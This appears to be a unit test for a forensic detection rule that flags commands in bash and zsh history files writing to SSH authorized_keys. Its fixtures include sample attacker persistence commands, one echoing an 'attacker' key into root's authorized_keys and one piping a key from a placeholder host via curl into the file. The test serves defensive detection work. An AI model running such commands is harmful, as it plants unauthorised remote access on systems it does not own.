import { describe, expect, it } from 'vitest';
import { clean, planted } from '../package.fixture.js';
import { rule } from './history-authorized-keys-write.js';

describe(rule.id, () => {
  it('should flag writes to authorized_keys in bash and zsh histories, and not reads', () => {
    const pkg = planted({
      'History/www-data_bash_history.txt': 'id\necho ssh-rsa AAAAB3Nza attacker >> /root/.ssh/authorized_keys\ncat ~/.ssh/authorized_keys\n',
      'History/bob_zsh_history.txt': ': 1700000000:0;curl -s http://x/k | tee -a ~/.ssh/authorized_keys\n',
    });
    expect(rule.evaluate(pkg).map((h) => [h.packagePath, h.accountName])).toEqual([
      ['History/bob_zsh_history.txt', 'bob'],
      ['History/www-data_bash_history.txt', 'www-data'],
    ]);
  });

  it('should find nothing on a clean host', () => {
    expect(rule.evaluate(clean())).toEqual([]);
  });
});
